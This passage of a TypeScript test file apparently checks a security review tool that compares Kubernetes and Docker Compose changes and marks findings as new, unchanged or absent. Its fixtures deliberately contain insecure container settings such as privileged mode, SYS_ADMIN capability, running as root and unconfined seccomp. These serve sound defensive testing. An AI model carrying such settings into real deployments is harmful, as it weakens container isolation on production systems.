    const { considered } = await reviewChange(manifest(pod('', zero, zero), pod(zero, '', '')));
    expect(considered.fixed.map(({ ruleId }) => ruleId)).not.toContain('kubernetes/run-as-user-zero');
  });

  test('is brought in where a container is that did not have it', async () => {
    expect(await states(pod('', zero, ''), pod(zero, '', ''))).toEqual(['app.yaml:5 new*', 'app.yaml:7 absent']);
    expect(await states(pod(zero, 'runAsUser: 1000', ''), pod('', zero, ''))).toEqual(['app.yaml:7 new*', 'app.yaml:5 absent']);
  });
});

describe('what is left of something worse that the change takes away', () => {
  const container = (security: string, ofPod = ''): string =>
    `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nspec:\n  securityContext: {${ofPod}}\n  containers:\n    - {name: c, image: "ghcr.io/acme/c:1", securityContext: {${security}}}\n`;

  test.each([
    ['privileged: true', 'kubernetes/privilege-escalation-allowed'],
    ['capabilities: {add: [SYS_ADMIN]}', 'kubernetes/privilege-escalation-allowed'],
    ['runAsUser: 0', 'kubernetes/root-user'],
    ['seccompProfile: {type: Unconfined}', 'kubernetes/seccomp-not-set'],
  ])('was so before: %s', async (setting, rule) => {
    expect(await statesOf(rule, manifest(container(setting), container('')))).toEqual(['app.yaml:7 unchanged']);
  });

  test('was so before where it was said of the pod, unless the container itself was changed', async () => {
    const rule = 'kubernetes/root-user';
    expect(await statesOf(rule, manifest(container('', 'runAsUser: 0'), container('')))).toEqual(['app.yaml:7 unchanged']);
    const own = container('runAsUser: 1000', 'runAsUser: 0').replace(
      'containers:\n',
      'containers:\n    - {name: b, image: "ghcr.io/acme/b:1"}\n',
    );
    const lost = own.replace('securityContext: {runAsUser: 0}', 'securityContext: {}').replace('runAsUser: 1000', '');
    expect(await statesOf(rule, manifest(own, lost))).toEqual(['app.yaml:7 unchanged', 'app.yaml:8 new*']);
  });

  test('is brought in where another capability was taken away with what kept it off', async () => {
    const base = container('allowPrivilegeEscalation: false, capabilities: {add: [NET_ADMIN]}');
    expect(await statesOf('kubernetes/privilege-escalation-allowed', manifest(base, container('')))).toEqual(['app.yaml:7 new*']);
  });
});

describe('a Compose service', () => {
  const rule = 'compose/dangerous-capability-added';
  const added = '    image: ghcr.io/acme/vpn:1\n    cap_add: [NET_ADMIN]\n';
  const extending = 'services:\n  vpn:\n    extends: {file: common.yaml, service: vpn}\n';

  test('brings nothing in by what it extends now and had itself before', async () => {
    const change = (head: string): Change => ({
      base: { 'compose.yaml': `services:\n  vpn:\n${added}` },
      head: { 'compose.yaml': extending, 'common.yaml': `services:\n  vpn:\n${head}` },
    });
    expect(await statesOf(rule, change(added))).toEqual(['common.yaml:4 unchanged', 'compose.yaml:3 unchanged']);
    expect((await statesOf(rule, change(added.replace('NET_ADMIN', 'SYS_ADMIN')))).filter(state => state.startsWith('common'))).toEqual([
      'common.yaml:4 new*',
    ]);
  });

  test('has what it had by an alias where that is written out, and the other way round', async () => {
    const bad = '    image: ghcr.io/acme/app:1\n    privileged: true\n';
    const shared = `x-base: &base\n${bad}services:\n  a: {<<: *base, command: a}\n  b: {<<: *base, command: b}\n`;
    const written = (own: string): string => `services:\n  a:\n${bad}    command: a\n  b:\n${own}    command: b\n`;
    const privileged = 'compose/privileged-container';
    expect(await statesOf(privileged, compose(shared, written(bad)))).toEqual(['compose.yaml:4 unchanged', 'compose.yaml:8 unchanged']);
    const { considered } = await reviewChange(compose(written(bad), shared));
    expect(considered.fixed.map(({ ruleId }) => ruleId)).not.toContain(privileged);
    const apart = shared.replace('b: {<<: *base, command: b}', 'b: {image: "ghcr.io/acme/app:1", command: b}');
    expect(await statesOf(privileged, compose(apart, written(bad)))).toEqual(['compose.yaml:4 unchanged', 'compose.yaml:8 new*']);
  });

  test('keeps what is said once of a publisher, whichever of its images stands first', async () => {
    const services = ['  a: {image: "acmesoft/app:1", command: a}\n', '  b: {image: "acmesoft/app:1", command: b}\n'];
    const change = compose(`services:\n${services.join('')}`, `services:\n${services.toReversed().join('')}`);
    expect(await statesOf('image/unverified-publisher', change, { rules: [unverifiedPublisher] })).toEqual(['compose.yaml:2 unchanged']);
  });

  test('is one of all that share a network, whichever of them stands first', async () => {
    const stores = ['  cache:\n    image: redis:8\n', '  db:\n    image: postgres:17\n'];
    const web = 'services:\n  web:\n    image: nginx:1.30\n    ports: ["80:80"]\n';
    const change = compose(web + stores.join(''), web + stores.toReversed().join(''));
    expect(await statesOf('compose/default-network-only', change, { rules: [defaultNetworkOnly] })).toEqual(['compose.yaml:5 unchanged']);
  });
});
